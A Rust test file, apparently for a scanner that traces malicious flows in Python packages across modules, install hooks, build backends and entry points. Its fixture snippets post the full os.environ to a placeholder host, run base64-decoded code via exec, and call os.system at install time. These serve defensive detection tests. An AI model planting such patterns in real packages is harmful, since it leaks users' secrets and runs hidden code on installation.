//! Several modules of one distribution.

use super::*;

fn package(files: &[(&str, Role, &str)]) -> Package {
    let sources = files
        .iter()
        .map(|(path, role, code)| Source::new(path, code.as_bytes(), *role));
    Package {
        sources: sources.collect(),
        ..Package::default()
    }
}

fn flows_of(package: &Package) -> Vec<(Label, SinkKind, Context)> {
    let analysis = analyse(package, &Budget::default());
    analysis
        .flows
        .iter()
        .map(|flow| (flow.label, flow.kind, flow.context))
        .collect()
}

#[test]
fn data_is_followed_from_module_to_module() {
    let sender = "import requests\ndef ship(d):\n    requests.post('https://a.invalid', data=d)\n";
    let expected = (Label::EnvAll, SinkKind::Send, Context::Import);
    for caller in [
        "import os\nfrom .net import ship\nship(os.environ)",
        "import os\nfrom demo.net import ship as s\ns(dict(os.environ))",
        "import os\nfrom demo import net\nnet.ship(str(os.environ))",
        "import os\nimport demo.net\ndemo.net.ship(str(os.environ))",
    ] {
        for order in [0, 1] {
            let mut files = vec![
                ("demo/__init__.py", Role::Module, caller),
                ("demo/net.py", Role::Module, sender),
            ];
            files.rotate_left(order);
            let found = flows_of(&package(&files));
            assert!(found.contains(&expected), "{caller}\n{found:?}");
        }
    }
}

#[test]
fn modules_that_name_nothing_are_followed_when_they_use_one_that_does() {
    let found = flows_of(&package(&[
        (
            "demo/a.py",
            Role::Module,
            "import os\ndef facts():\n    return dict(os.environ)\n",
        ),
        (
            "demo/b.py",
            Role::Module,
            "import requests\ndef ship_away(d):\n    requests.post('https://a.invalid', data=d)\n",
        ),
        (
            "demo/__init__.py",
            Role::Module,
            "from .a import facts\nfrom .b import ship_away\nship_away(facts())\n",
        ),
    ]));
    assert!(
        found.contains(&(Label::EnvAll, SinkKind::Send, Context::Import)),
        "{found:?}"
    );
}

#[test]
fn a_payload_in_another_module_is_found() {
    let analysis = analyse(
        &package(&[
            (
                "demo/data.py",
                Role::Module,
                "BLOB = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImEiKQ=='\n",
            ),
            (
                "demo/__init__.py",
                Role::Module,
                "import base64\nfrom .data import BLOB\nexec(base64.b64decode(BLOB))\n",
            ),
        ]),
        &Budget::default(),
    );
    assert!(
        analysis
            .calls()
            .any(|call| &*call.target == "os.system" && call.place.layer == 1)
    );
}

#[test]
fn what_setup_imports_runs_at_install() {
    let analysis = analyse(
        &package(&[
            (
                "demo/__init__.py",
                Role::Module,
                "import os\nos.system('a')\ndef f():\n    os.popen('a')\n",
            ),
            ("setup.py", Role::Install, "import demo\ndemo.f()\n"),
        ]),
        &Budget::default(),
    );
    for call in analysis.calls().filter(|call| call.sink.is_some()) {
        assert_eq!(call.context, Context::Install, "{}", call.target);
    }
}

#[test]
fn entry_points_and_hooks_are_roots() {
    let mut package = package(&[
        (
            "demo/cli.py",
            Role::Module,
            "import os\ndef main():\n    os.system('a')\n",
        ),
        (
            "backend.py",
            Role::BuildBackend,
            "import os\ndef build_wheel(d):\n    os.popen('a')\n",
        ),
    ]);
    package.entry_points.push(EntryPoint {
        group: "console_scripts".to_owned(),
        name: "demo".to_owned(),
        target: "demo.cli:main".to_owned(),
    });
    let analysis = analyse(&package, &Budget::default());
    let context = |name: &str| {
        analysis
            .calls()
            .find(|call| &*call.target == name)
            .unwrap()
            .context
    };
    assert_eq!(context("os.system"), Context::Entry);
    assert_eq!(context("os.popen"), Context::Install);
}

#[test]
fn many_tests_are_followed_only_where_other_code_reaches_them() {
    let harm = "import os\nos.system('a')\n";
    let padding = format!("# {}\n", "x".repeat(700 << 10));
    let test = format!("{harm}{padding}");
    let seen = |importer: &str| {
        let sources = [
            ("demo/__init__.py", Role::Module, importer),
            ("demo/tests/a.py", Role::Test, test.as_str()),
            ("demo/tests/b.py", Role::Test, test.as_str()),
        ];
        let package = package(&sources);
        let analysis = analyse(&package, &Budget::default());
        let calls = |path: &str| {
            let module = analysis.modules.iter().find(|module| &*module.path == path);
            module.map_or(0, |module| module.calls.len())
        };
        (calls("demo/tests/a.py"), calls("demo/tests/b.py"))
    };
    assert_eq!(seen("x = 1\n"), (1, 0));
    assert_eq!(
        seen("import os\nfrom demo.tests import b\nos.getenv('A')\n"),
        (1, 1)
    );
    assert_eq!(seen("from .tests import b\n"), (1, 1));
}

#[test]
fn what_a_backend_calls_runs_on_installation() {
    let backend = "from helper import act\ndef build_wheel(*a):\n    act()\n";
    let helper = "import os\ndef act():\n    os.system('a')\n";
    let package = package(&[
        ("backend.py", Role::BuildBackend, backend),
        ("helper.py", Role::Module, helper),
    ]);
    let analysis = analyse(&package, &Budget::default());
    let call = analysis.calls().find(|call| &*call.target == "os.system");
    assert_eq!(call.unwrap().context, Context::Install);
}
